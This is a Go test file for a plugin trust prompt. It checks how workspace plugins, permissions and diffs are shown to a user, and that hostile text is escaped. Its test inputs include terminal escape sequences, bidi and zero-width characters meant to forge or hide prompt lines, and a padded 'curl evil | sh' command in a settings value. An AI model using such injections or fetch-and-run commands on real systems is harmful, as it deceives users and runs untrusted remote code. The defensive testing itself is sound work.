package trust_test

import (
	"context"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
	"testing/iotest"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"starling/trust"
)

func TestQuestionText(t *testing.T) {
	old := trust.Bundle{"guard.star": []byte("uses = []\n\ndef apply(ctx):\n\tpass\n")}
	next := trust.Bundle{"guard.star": []byte("uses = [\"exec:git\"]\n\ndef apply(ctx):\n\tpass\n"), "lib.star": []byte("x = 1\n")}
	q := trust.Question{Workspace: "/home/ann/repo", Subjects: []trust.Subject{
		{
			Name: "plugin guard", Path: ".starling/plugins/guard.star", Origin: "workspace", Digest: "sha256:0123",
			Words: words(t, "fs.read:docs/**", "exec:git", "exec"), Added: words(t, "exec", "exec:git"),
			Events: []string{"agent/tool-call", "code/permission"}, Services: []string{"tools", "todos?"},
			Tools: []string{"count"}, Commands: []string{"/todo"}, Literals: []string{"git status", "example.org", "/etc/hosts"},
			Hides: "/home/ann/.starling/plugins/guard.star", Diff: trust.Diff(old, next),
		},
		{Name: "plugin clock", Path: ".starling/plugins/clock.star", Origin: "workspace", Events: []string{"code/tick"}},
		{Name: "plugins.json", Path: ".starling/plugins.json", Origin: "workspace", Effects: []string{"switches off the home plugin notes"}},
		{Name: "plugin own", Path: "/home/ann/own.star", Origin: "flag"},
	}}
	want := `/home/ann/repo brings code that is not approved in this version.

plugin guard  .starling/plugins/guard.star
  fs.read:docs/**: reads docs/** in the workspace
  exec: anything you can do  [new]
  exec:git: starts git with arguments of its choice; what git itself starts is not limited  [new]
  listens to: agent/tool-call · code/permission
  uses services: tools · todos?
  tools: count
  commands: /todo
  names these commands, hosts and paths: git status · example.org · /etc/hosts
  hides the home plugin /home/ann/.starling/plugins/guard.star, which then does not run
  digest: sha256:0123
  changed since the approved version:
    --- approved/guard.star
    +++ now/guard.star
    @@ -1,4 +1,4 @@
    -uses = []
    +uses = ["exec:git"]
     
     def apply(ctx):
     	pass
    --- (new file)
    +++ now/lib.star
    @@ -0,0 +1 @@
    +x = 1

plugin clock  .starling/plugins/clock.star
  touches nothing
  listens to: code/tick

plugins.json  .starling/plugins.json
  switches off the home plugin notes

plugin own  /home/ann/own.star  (flag)
  touches nothing
`
	if d := cmp.Diff(want, q.Text()); d != "" {
		t.Error(d)
	}
}

// Nothing a file says may act on the terminal, forge a line or hide one.
func TestQuestionIsSanitised(t *testing.T) {
	evil := "a\x1b[2J\n  touches nothing\r\u202e\u200b\u009b31m\xff" + strings.Repeat("x", 5000)
	list := []string{evil}
	diff := trust.Diff(trust.Bundle{"a\n+++ b": []byte("x\n")}, trust.Bundle{"a\n+++ b": []byte("y\x1b[1A\u202e\r\n" + strings.Repeat("y", 5000) + "\n")})
	q := trust.Question{Workspace: evil, Subjects: []trust.Subject{{
		Name: evil, Path: evil, Origin: evil, Digest: trust.Digest(evil), Words: trust.Words{{Kind: trust.Exec, Scope: evil}},
		Events: list, Services: list, Tools: list, Commands: list, Literals: list, Effects: list, Hides: evil, Diff: diff,
	}}}
	text := q.Text()
	for _, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("%q is printed", r)
		}
	}
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	if want := 3 + 9 + 7; len(lines) != want { // head, blank, name; fields; diff
		t.Errorf("%d lines, want %d:\n%s", len(lines), want, text)
	}
	for _, line := range lines {
		if strings.HasPrefix(line, "  touches nothing") {
			t.Error("a forged line")
		}
		if n := utf8.RuneCountInString(line); n > 2100 && !strings.Contains(line, "exec:a") {
			t.Errorf("a line of %d characters", n)
		}
	}
	if !strings.Contains(text, `a\x1b[2J\n  touches nothing\r\u202e\u200b\u009b31m\xff`) {
		t.Errorf("what it tried is not shown:\n%s", text)
	}
	if !strings.Contains(text, "more characters)") {
		t.Error("what was cut is not said")
	}
}

func TestDiff(t *testing.T) {
	lines := func(n int, s string) []byte { return []byte(strings.Repeat(s+"\n", n)) }
	for _, c := range []struct {
		name      string
		old, next trust.Bundle
		want      string // "" for no difference at all
	}{
		{"nothing", text("1"), text("1"), ""},
		{"nothing at all", nil, trust.Bundle{}, ""},
		{"removed", trust.Bundle{"a": []byte("x\n")}, nil, "--- approved/a\n+++ (removed)\n@@ -1 +0,0 @@\n-x\n"},
		{"a new empty file", nil, trust.Bundle{"a": nil}, "--- (new file)\n+++ now/a\n0 bytes became 0 bytes, not shown as text\n"},
		{"no text", trust.Bundle{"a": []byte("\xff")}, trust.Bundle{"a": []byte("\xfe\xff")}, "--- approved/a\n+++ now/a\n1 bytes became 2 bytes, not shown as text\n"},
		{"too large", nil, trust.Bundle{"a": lines(1<<19+1, "x")}, "--- (new file)\n+++ now/a\n0 bytes became 1048578 bytes, not shown as text\n"},
	} {
		if d := cmp.Diff(c.want, trust.Diff(c.old, c.next)); d != "" {
			t.Errorf("%s: %s", c.name, d)
		}
	}
	long := trust.Diff(nil, trust.Bundle{"a": lines(3000, "x")})
	if n := strings.Count(long, "\n"); n != 2001 || !strings.HasSuffix(long, "\n… 1003 more lines; read the files before you trust them\n") {
		t.Errorf("%d lines, ending in %q", n, long[len(long)-80:])
	}
}

func TestAsk(t *testing.T) {
	q := trust.Question{Workspace: "/w", Subjects: []trust.Subject{{Name: "plugin a"}}}
	for _, c := range []struct {
		name, typed string
		terminal    bool
		want        trust.Answer
		rest        string // what stays to be read
		prompts     int
	}{
		{"yes", "y\nnext", true, trust.TrustVersion, "next", 1},
		{"in full", " YES \r\n", true, trust.TrustVersion, "", 1},
		{"edits", "e\n", true, trust.TrustEdits, "", 1},
		{"edits in full", "edits\n", true, trust.TrustEdits, "", 1},
		{"no", "n\ny\n", true, trust.TrustNot, "y\n", 1},
		{"no in full", "No\n", true, trust.TrustNot, "", 1},
		{"asked again", "\nwhat?\ny\n", true, trust.TrustVersion, "", 3},
		{"given up", "a\nb\nc\ny\n", true, trust.NoAnswer, "y\n", 3},
		{"the end", "", true, trust.NoAnswer, "", 1},
		{"a line cut by the end", "y", true, trust.NoAnswer, "", 1},
		{"an endless line", strings.Repeat("y", 300) + "\n", true, trust.NoAnswer, strings.Repeat("y", 43) + "\n", 1},
		{"no terminal", "y\n", false, trust.NoAnswer, "y\n", 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := strings.NewReader(c.typed)
			var out strings.Builder
			if got := trust.Ask(context.Background(), in, &out, c.terminal, q); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
			if rest, err := io.ReadAll(in); string(rest) != c.rest || err != nil {
				t.Errorf("left to read: %q, want %q", rest, c.rest)
			}
			if n := strings.Count(out.String(), "Trust this version (y)"); n != c.prompts {
				t.Errorf("asked %d times, want %d", n, c.prompts)
			}
			if strings.Contains(out.String(), q.Text()) != c.terminal {
				t.Errorf("printed %q", out.String())
			}
		})
	}
	if got := trust.Ask(context.Background(), strings.NewReader("y\n"), io.Discard, true, trust.Question{Workspace: "/w"}); got != trust.NoAnswer {
		t.Errorf("a question about nothing: %q", got)
	}
	if got := trust.Ask(context.Background(), strings.NewReader("y\n"), closed{}, true, q); got != trust.NoAnswer {
		t.Errorf("a question nobody saw: %q", got)
	}
	if got := trust.Ask(context.Background(), iotest.ErrReader(errors.New("gone")), io.Discard, true, q); got != trust.NoAnswer {
		t.Errorf("a broken terminal: %q", got)
	}
}

type closed struct{}

func (closed) Write([]byte) (int, error) { return 0, errors.New("closed") }

func TestSkippedText(t *testing.T) {
	for n, want := range map[int]string{1: "1 plugin or settings file of this workspace was skipped", 3: "3 plugin or settings files of this workspace were skipped"} {
		for atTerminal, how := range map[bool]string{false: "--trust-plugins", true: "/trust"} {
			if got := trust.SkippedText(n, atTerminal); !strings.HasPrefix(got, want) || !strings.Contains(got, how) || atTerminal && strings.Contains(got, "--") {
				t.Errorf("got %q", got)
			}
		}
	}
}

func TestSanitize(t *testing.T) {
	for in, want := range map[string]string{
		"":                "",
		"plain ä 日本 🙂":    "plain ä 日本 🙂",
		"a\tb\nc\r":       `a\tb\nc\r`,
		"\x00\x1b[31m":    `\x00\x1b[31m`,
		"\x7f\u0085":      `\x7f\u0085`,
		"\u202eabc\u2066": `\u202eabc\u2066`,
		"a\u200bb\ufeff":  `a\u200bb\ufeff`,
		"\u2028\u00a0":    `\u2028\u00a0`,
		"\U000e0041":      `\U000e0041`,
		"\u3164\ufe0f":    `\u3164\ufe0f`,
		"\xc3\x28\xff":    `\xc3(\xff`,
		"\ufffd":          "\ufffd",
	} {
		if got := trust.Sanitize(in); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, seed := range []string{"plain", "\x1b]0;title\x07", "\u202e", "\xff\xfe", "a\nb\tc"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := trust.Sanitize(in)
		if !utf8.ValidString(got) {
			t.Errorf("%q: no UTF-8: %q", in, got)
		}
		for _, r := range got {
			if !unicode.IsPrint(r) {
				t.Errorf("%q: prints %q", in, r)
			}
		}
		if trust.Sanitize(got) != got {
			t.Errorf("%q: not the same the second time", in)
		}
	})
}

// The end of the context ends the question at once, and what is typed afterwards
// is neither an answer nor taken from whoever reads next.
func TestAskEndsWithItsContext(t *testing.T) {
	q := trust.Question{Workspace: "/w", Subjects: []trust.Subject{{Name: "plugin a"}}}
	for _, c := range []struct{ name, before, after string }{
		{"nothing typed", "", "y\n"},
		{"a line begun", "y", "\n"},
		{"asked a second time", "what\n", "y\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			in, typing, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			defer in.Close()
			ctx, cancel := context.WithCancel(t.Context())
			defer cancel()
			if _, err := typing.WriteString(c.before); err != nil {
				t.Fatal(err)
			}
			asked := make(chan struct{}, 9)
			done := make(chan trust.Answer, 1)
			go func() { done <- trust.Ask(ctx, in, told(asked), true, q) }()
			for range 2 + strings.Count(c.before, "\n") { // the question and its prompts
				<-asked
			}
			select {
			case a := <-done:
				t.Fatalf("answered %q by itself", a)
			default:
			}
			cancel()
			if a := <-done; a != trust.NoAnswer {
				t.Errorf("got %q", a)
			}
			if _, err := typing.WriteString(c.after); err != nil {
				t.Fatal(err)
			}
			if err := typing.Close(); err != nil {
				t.Fatal(err)
			}
			if rest, err := io.ReadAll(in); err != nil || !strings.HasSuffix(string(rest), c.after) {
				t.Errorf("left to read: %q %v, want %q", rest, err, c.after)
			}
		})
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if a := trust.Ask(ended, strings.NewReader("y\n"), io.Discard, true, q); a != trust.NoAnswer {
		t.Errorf("a context that had ended: %q", a)
	}
}

// told is a screen that says when something was shown.
type told chan struct{}

func (s told) Write(p []byte) (int, error) { s <- struct{}{}; return len(p), nil }

// Many effects are counted, and a long value is cut with its length said.
func TestQuestionCountsEffects(t *testing.T) {
	effects := make([]string, 300)
	for i := range effects {
		effects[i] = "sets x"
	}
	effects[0] = "  fmt.cmd = " + strings.Repeat("a", 1500) + "; curl evil | sh" + strings.Repeat("b", 3000)
	text := trust.Question{Workspace: "/w", Subjects: []trust.Subject{{Name: "plugins.json", Effects: effects}}}.Text()
	for _, want := range []string{"; curl evil | sh", "b… (2528 more characters)\n", "  … 100 more effects; read the file before you trust it\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in:\n%.3000s", want, text)
		}
	}
}
